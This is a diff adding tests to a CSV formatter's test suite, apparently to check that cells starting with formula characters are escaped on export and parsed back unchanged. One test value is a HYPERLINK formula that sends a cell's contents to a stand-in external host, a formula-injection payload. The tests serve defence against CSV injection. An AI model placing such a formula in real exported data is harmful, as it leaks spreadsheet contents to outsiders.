@@ -18,6 +18,37 @@ describe('a CSV file', () => {
   });
 
   test.each([
+    '=HYPERLINK("https://e.example/?"&A1,"Vea")',
+    '+1 202 224-3121',
+    '-1',
+    '@cuenta',
+    '\tsangrado',
+    '\rretorno',
+    '\notra línea',
+    '＝1+1',
+    "'=1+1",
+    "''-dos",
+    "'",
+    "'Tis",
+    "'ahora' no",
+    '=',
+  ])('calculates nothing of %j, and gives it back', (cell) => {
+    const sheet = formatCsv([
+      ['en', 'es'],
+      [cell, 'b'],
+    ]);
+    expect(sheet.split('\r\n')[1]?.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r\n＝]/);
+    expect(parseCsv(sheet)?.[1]).toEqual([cell, 'b']);
+  });
+
+  test('that a spreadsheet has taken the apostrophe off is read the same', () => {
+    expect(parseCsv('a,b\n-1,=1\n')).toEqual([
+      ['a', 'b'],
+      ['-1', '=1'],
+    ]);
+  });
+
+  test.each([
     ['semicolons', 'a;b\r\n"1;2";3\r\n'],
     ['tabs', 'a\tb\n1;2\t3'],
     ['old line ends', '\ufeffa,b\r1;2,3\r'],
@@ -121,6 +152,8 @@ describe('a sheet', () => {
     ['an emoji', 'Vote 🗳️ ya'],
     ['placeholders', '{year} {email} __HANDLE__'],
     ['a backslash', 'C:\\'],
+    ['a sign that begins a formula', '-Únase, dijo'],
+    ['an apostrophe before one', "'+ fuerza"],
   ])('keeps %s', (_what, words) => {
     change(site(), 'intro_title', undefined);
     expect(fill(() => words)).toMatchObject({ written: 1, refused: [] });
